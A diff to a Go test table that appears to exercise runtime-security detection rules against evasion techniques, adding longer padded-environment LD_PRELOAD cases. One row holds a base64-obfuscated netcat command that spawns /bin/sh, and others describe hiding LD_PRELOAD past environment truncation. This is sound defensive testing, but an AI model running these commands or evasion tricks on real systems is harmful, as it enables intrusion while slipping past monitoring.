@@ -26,7 +26,10 @@ var argumentRows = []row{
 		return s.run(onHost, "/bin/bash", "-c", `cd $0; echo Li9uYyAtZSAvYmluL3NoIDE= | base64 -d | sh`, s.dir) // ./nc -e /bin/sh 1
 	}, Rules: []string{netcat}, Field: "proc.args of the child"},
 	{ID: "A4", Technique: "LD_PRELOAD behind 5,000 bytes of environment", Do: func(s *scene) error {
-		return s.act(onHost, "padded-environment", s.fake("app"))
+		return s.act(onHost, "padded-environment", "5000", s.fake("app"))
+	}, Rules: []string{"Preload library from a temporary directory"}, Field: "proc.env"},
+	{ID: "A4/longer", Technique: "LD_PRELOAD behind 20,000 bytes of environment", Do: func(s *scene) error {
+		return s.act(onHost, "padded-environment", "20000", s.fake("app"))
 	}, Witness: "evt.type = execve and proc.env.truncated = true", Field: "proc.env.truncated",
 		Note: "no rule, since long environments are common"},
 	{ID: "A5/socket", Technique: "the runtime's socket through another directory", Do: func(s *scene) error {
